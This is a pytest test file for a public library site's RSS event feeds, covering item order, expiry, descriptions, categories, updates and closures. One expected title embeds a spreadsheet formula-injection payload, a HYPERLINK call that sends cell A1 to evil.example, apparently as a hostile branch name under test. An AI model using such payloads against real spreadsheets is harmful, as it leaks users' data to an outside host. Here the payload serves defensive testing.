from datetime import date, timedelta
from pathlib import Path

import feedparser
import pytest
from lxml import etree

from librarysite.feeds.announced import announced_feeds
from librarysite.model import Library
from librarysite.moment import Now
from tests.support.opendatacases import CASES, NOW, service

ADDRESS = "feeds/events.xml"
GROUPS = """
audiences:
  - {id: babies, name: Babies}
  - {id: adults, name: Adults}
  - {id: veterans, name: Veterans, retired: yes}
types:
  - {id: talk, name: Talks}
  - {id: games, name: Games}
  - {id: fax-help, name: Help with fax, retired: yes}
"""
EVENTS = """\
events:
  - id: rhymes
    title: Baby rhymes
    summary: Songs for babies
    branch: north
    room: Room 1
    when: {every: Tuesday, at: 10:30 to 11:00, from: 2026-12-01, until: 2027-07-20}
    for: [babies, veterans]
    cost: Free
    booking: not needed
    published: 2026-11-23
    sample: yes
  - id: chess
    title: Chess
    branch: north
    when: {every: Monday, at: 14:00 to 16:00, from: 2026-09-07}
    type: games
    published: 2026-11-23
    updated: 2026-11-24
  - id: hall
    title: In the hall
    place: {name: The Hall, address: 1 Hall Road}
    when: {on: 2027-06-10, at: 19:00 to 20:00}
    type: talk
    for: adults
    booking: {phone: 01582 547418, opens: 2027-01-04}
    published: 2026-11-20
  - id: web
    title: On the web
    online: yes
    when: {on: 2027-01-05}
    type: fax-help
    published: 2026-05-25
  - id: both
    title: Here and there
    branch: formula
    online: yes
    when: {on: 2027-01-05}
    outside_hours: yes
    published: 2026-11-20
  - {id: too-old, title: Too old, branch: north, when: {on: 2026-12-07, at: 10:00 to 11:00}, published: 2026-05-24}
  - {id: tomorrow, title: Tomorrow, when: {on: 2026-12-07}, published: 2026-11-24}
  - {id: without, title: Without, when: {on: 2026-12-07}}
"""


@pytest.fixture
def library(tmp_path: Path) -> Library:
    """Return the service of the cases with some events."""
    words = (CASES / "service.yaml").read_text(encoding="utf-8") + GROUPS
    return service(tmp_path, service=words, events=EVENTS)


def channel(library: Library, today: date = NOW.today, address: str = ADDRESS) -> etree._Element:
    """Return a feed's channel as a plain XML parser sees it."""
    found = etree.fromstring(announced_feeds(library, today)[address]).find("channel")
    assert found is not None
    return found


def guids(library: Library, today: date = NOW.today, address: str = ADDRESS) -> list[str | None]:
    """Return the guid of each item, in the feed's order."""
    return [item.findtext("guid") for item in channel(library, today, address).findall("item")]


def test_events_newest_first(library: Library) -> None:
    """One item for each event announced in the 183 days up to today, the newest first, on one day by id."""
    told = [
        tuple(item.findtext(name) for name in ("guid", "title", "link", "pubDate"))
        for item in channel(library).findall("item")
    ]
    site = "https://libraries.example/whats-on"
    assert told == [
        (
            "event.chess@libraries.example",
            "Chess, North Library",
            f"{site}/chess/",
            "Mon, 23 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.rhymes@libraries.example",
            "Baby rhymes, North Library",
            f"{site}/rhymes/",
            "Mon, 23 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.both@libraries.example",
            'Here and there, =HYPERLINK("https://evil.example/?"&A1,"South") and online',
            f"{site}/both/",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.hall@libraries.example",
            "In the hall, The Hall",
            f"{site}/hall/",
            "Fri, 20 Nov 2026 00:00:00 +0000",
        ),
        (
            "event.web@libraries.example",
            "On the web, online",
            f"{site}/web/",
            "Mon, 25 May 2026 00:00:00 +0000",
        ),
    ]
    assert {guid.get("isPermaLink") for guid in channel(library).iter("guid")} == {"false"}


def test_item_leaves_by_age_alone(library: Library) -> None:
    """An item is there from its day on, for 183 days, and is never there again."""
    days = [date(2026, 5, 20) + timedelta(days=n) for n in range(250)]
    there = [day.isoformat() for day in days if "event.web@libraries.example" in guids(library, day)]
    assert (there[0], there[-1], len(there)) == ("2026-05-25", "2026-11-23", 183)


def test_what_an_item_says(library: Library) -> None:
    """The description says what, when, where, for how much and how to book, as of the day of publishing."""
    items = {item.findtext("guid"): item.findtext("description") for item in channel(library).findall("item")}
    assert items["event.rhymes@libraries.example"] == (
        "<p>Songs for babies.</p>\n"
        "<p>Every Tuesday, 10:30am to 11am, from 1 December until 20 July 2027.</p>\n"
        "<p>Where: North Library, Room 1.</p>\n"
        "<p>Cost: Free.</p>\n"
        "<p>No need to book.</p>\n"
        "<p>This is a sample event of a demonstration.</p>"
    )
    assert items["event.hall@libraries.example"] == (
        "<p>Thursday 10 June 2027, 7pm to 8pm.</p>\n"
        "<p>Where: The Hall, 1 Hall Road.</p>\n"
        "<p>Book a place by phone on 01582 547418. Booking opens on Monday 4 January 2027.</p>"
    )
    assert (
        items["event.web@libraries.example"]
        == "<p>Tuesday 5 January 2027, all day.</p>\n<p>Where: online.</p>"
    )


def test_words_stay_as_days_pass(library: Library) -> None:
    """An item is the same on the day of publishing and half a year later, so that readers do not show it anew."""
    first, last = date(2026, 11, 23), date(2027, 5, 24)
    written = [
        {i.findtext("guid"): etree.tostring(i) for i in channel(library, day).iter("item")}
        for day in (first, last)
    ]
    assert "event.rhymes@libraries.example" in written[1]
    assert (
        written[0]["event.rhymes@libraries.example"].split()
        == written[1]["event.rhymes@libraries.example"].split()
    )


def test_categories_are_the_words_in_use(library: Library) -> None:
    """An item's categories are the names of its type and audiences; a retired one is left out."""
    items = {
        item.findtext("guid"): [category.text for category in item.findall("category")]
        for item in channel(library).findall("item")
    }
    assert items == {
        "event.chess@libraries.example": ["Games"],
        "event.rhymes@libraries.example": ["Babies"],
        "event.both@libraries.example": [],
        "event.hall@libraries.example": ["Talks", "Adults"],
        "event.web@libraries.example": [],
    }


def test_feeds_of_libraries_audiences_and_types(library: Library) -> None:
    """Each library that ever was in service, audience and type has a feed, the retired and empty ones as well."""
    assert {
        address: guids(library, NOW.today, address) for address in announced_feeds(library, NOW.today)
    } == {
        "feeds/events.xml": guids(library),
        "feeds/events/at/north.xml": ["event.chess@libraries.example", "event.rhymes@libraries.example"],
        "feeds/events/at/formula.xml": ["event.both@libraries.example"],
        "feeds/events/at/unlisted.xml": [],
        "feeds/events/for/babies.xml": ["event.rhymes@libraries.example"],
        "feeds/events/for/adults.xml": ["event.hall@libraries.example"],
        "feeds/events/for/veterans.xml": ["event.rhymes@libraries.example"],
        "feeds/events/type/talk.xml": ["event.hall@libraries.example"],
        "feeds/events/type/games.xml": ["event.chess@libraries.example"],
        "feeds/events/type/fax-help.xml": ["event.web@libraries.example"],
    }


def test_no_feed_vanishes(library: Library) -> None:
    """A library that closes for good, as one does in April 2027, keeps the address of its feed."""
    later = announced_feeds(library, date(2027, 6, 1))
    assert set(later) == set(announced_feeds(library, NOW.today))


@pytest.mark.parametrize(
    ("name", "title", "page", "dated"),
    [
        ("events", "Testshire Libraries: new events", "whats-on/", "Mon, 23 Nov 2026"),
        ("events/at/north", "North Library: new events", "whats-on/at/north/", "Mon, 23 Nov 2026"),
        ("events/for/adults", "Testshire Libraries: new events for adults", "whats-on/for/adults/", "Fri, 20 Nov 2026"),
        ("events/type/games", "Testshire Libraries: new events, games", "whats-on/type/games/", "Mon, 23 Nov 2026"),
        ("events/at/unlisted", "Library without a postcode: new events", "whats-on/at/unlisted/", "Mon, 05 Jan 2026"),
    ],
)  # fmt: skip
def test_feed_says_what_it_is(library: Library, name: str, title: str, page: str, dated: str) -> None:
    """A feed has its name, the page that it belongs to, and the day of its newest event, today at the latest."""
    found = channel(library, NOW.today, f"feeds/{name}.xml")
    assert found.findtext("title") == title
    assert found.findtext("link") == f"https://libraries.example/{page}"
    assert found.findtext("lastBuildDate") == f"{dated} 00:00:00 +0000"


def test_feed_reader_reads_the_sample(sample: Library, now: Now) -> None:
    """A feed reader takes every feed of the sample service for whole RSS 2.0 and sees its items."""
    parsed = {address: feedparser.parse(feed) for address, feed in announced_feeds(sample, now.today).items()}
    assert {(feed.bozo, feed.version) for feed in parsed.values()} == {(False, "rss20")}
    assert len(parsed[ADDRESS].entries) >= 20


def test_same_data_gives_the_same_bytes(sample: Library, now: Now) -> None:
    """The same data gives the same bytes."""
    assert announced_feeds(sample, now.today) == announced_feeds(sample, now.today)


def update(folder: Path, lines: str, today: str = "2026-11-23", more: str = "") -> tuple[str, str, list[str]]:
    """Return name, title and paragraphs of the one item of an event published on 2 November, by a day."""
    head = "events:\n  - id: craft\n    title: Craft\n    branch: north\n    published: 2026-11-02\n"
    service_lines = (CASES / "service.yaml").read_text(encoding="utf-8") + GROUPS
    status = {"status": more} if more else {"status": "closures: []\n"}
    library = service(folder, service=service_lines, events=head + lines, **status)
    (item,) = channel(library, date.fromisoformat(today)).findall("item")
    guid, title, text = (item.findtext(name) or "" for name in ("guid", "title", "description"))
    paragraphs = [line.removeprefix("<p>").removesuffix("</p>") for line in text.split("\n")]
    return guid.removesuffix("@libraries.example"), title, paragraphs


TUESDAYS = "    when: {every: Tuesday, at: 10:00 to 11:00, from: 2026-11-03}\n"
NEXT = (
    "Next dates: Tuesday 24 November, 10am to 11am; Tuesday 1 December, 10am to 11am; "
    "Tuesday 8 December, 10am to 11am; Tuesday 15 December, 10am to 11am; Tuesday 22 December, 10am to 11am."
)
WHERE = "Where: North Library."


def test_update_says_the_next_dates_and_what_happened(tmp_path: Path) -> None:
    """A material change is an item of its own day, which says the dates as they are and what is off or moved."""
    changes = (
        "    changes:\n      - {date: 2026-12-01, cancelled: Staff training}\n"
        "      - {date: 2026-12-08, moved_to: 2026-12-09 14:00 to 15:00, note: The hall is let}\n"
        "      - {date: 2026-11-17, cancelled: Snow}\n"
        "    also_on: 2026-12-12 10:00 to 11:00\n    updated: 2026-11-20\n"
    )
    assert update(tmp_path, TUESDAYS + changes) == (
        "event.craft.update.20261120",
        "Update: Craft, North Library",
        [
            "Every Tuesday, 10am to 11am.",
            "Next dates: Tuesday 24 November, 10am to 11am; Wednesday 9 December, 2pm to 3pm; "
            "Saturday 12 December, 10am to 11am; Tuesday 15 December, 10am to 11am; Tuesday 22 December, 10am to 11am.",
            "Cancelled: Tuesday 1 December (Staff training).",
            "Moved from Tuesday 8 December to Wednesday 9 December, 2pm to 3pm (The hall is let).",
            "Also on Saturday 12 December, 10am to 11am.",
            WHERE,
        ],
    )


@pytest.mark.parametrize("today", ["2026-11-20", "2026-12-09", "2027-05-21"])
def test_words_of_an_update_stay_as_days_pass(tmp_path: Path, today: str) -> None:
    """The words depend on the entries and the day of “updated” alone, to the last day on which they stand."""
    expected = ("event.craft.update.20261120", "Update: Craft, North Library", [TUESDAY_WORDS, NEXT, WHERE])
    assert update(tmp_path, f"{TUESDAYS}    updated: 2026-11-20\n", today) == expected


TUESDAY_WORDS = "Every Tuesday, 10am to 11am."


def test_update_of_a_day_to_come_is_not_out(tmp_path: Path) -> None:
    """Until the day of “updated” the first item stays; a mere mistake in that year locks nothing."""
    name, title, _ = update(tmp_path, f"{TUESDAYS}    updated: 2026-11-24\n")
    assert (name, title) == ("event.craft", "Craft, North Library")


@pytest.mark.parametrize(
    ("lines", "paragraphs"),
    [
        (
            "    changes: {date: 2026-12-10, moved_to: 2026-12-11}\n",
            ["Next date: Friday 11 December, 2pm to 3pm.",
             "Moved from Thursday 10 December to Friday 11 December, 2pm to 3pm."],
        ),
        (
            "    changes: {date: 2026-12-10, moved_to: 2026-12-10 15:00 to 16:00}\n",
            ["Next date: Thursday 10 December, 3pm to 4pm.", "Moved: Thursday 10 December, 3pm to 4pm."],
        ),
        (
            "    changes: {date: 2026-12-10, cancelled: Illness}\n",
            ["There are no more dates.", "Cancelled: Thursday 10 December (Illness)."],
        ),
        (
            "    changes: {date: 2026-12-10, room: Room 2}\n",
            ["Thursday 10 December, 2pm to 3pm.", "Thursday 10 December, 2pm to 3pm: In another room."],
        ),
        ("", ["Thursday 10 December, 2pm to 3pm."]),
    ],
)  # fmt: skip
def test_first_item_is_true_also_where_updated_was_forgotten(
    tmp_path: Path, lines: str, paragraphs: list[str]
) -> None:
    """An item never states a date that is off or moved, whether or not the editor has written “updated”."""
    once = "    when: {on: 2026-12-10, at: 14:00 to 15:00}\n"
    assert update(tmp_path, once + lines) == (
        "event.craft",
        "Craft, North Library",
        [*paragraphs, WHERE],
    )


def test_dates_that_a_closure_takes_are_told_together(tmp_path: Path) -> None:
    """Dates that are cancelled for one reason stand in one line, and of many the last is said."""
    lines = ["id: flood", "branches: north", "from: 2026-12-01", "to: 2027-03-31", "reason: Flood"]
    closure = "closures:\n  - " + "\n    ".join(lines) + "\n"
    _, _, paragraphs = update(tmp_path, TUESDAYS, more=closure)
    # Tuesdays from 1 December to 30 March are 18; 29 December is no holiday, 22 December neither.
    assert paragraphs == [
        TUESDAY_WORDS.replace(".", ", from 3 November."),
        "Cancelled: Tuesday 1 December, Tuesday 8 December, Tuesday 15 December, Tuesday 22 December, "
        "Tuesday 29 December, Tuesday 5 January 2027, Tuesday 12 January 2027, Tuesday 19 January 2027, "
        "Tuesday 26 January 2027, Tuesday 2 February 2027 and 8 more until Tuesday 30 March 2027 (Flood).",
        WHERE,
    ]


def test_event_leaves_by_the_age_of_its_newest_announcement(library: Library) -> None:
    """An event of long ago that was updated is told of for 183 days from then."""
    days = [date(2026, 11, 23) + timedelta(days=n) for n in (0, 1, 183, 184)]
    own = [[g for g in guids(library, day) if g and g.startswith("event.chess")] for day in days]
    first, updated = "event.chess@libraries.example", "event.chess.update.20261124@libraries.example"
    assert own == [[first], [updated], [updated], []]
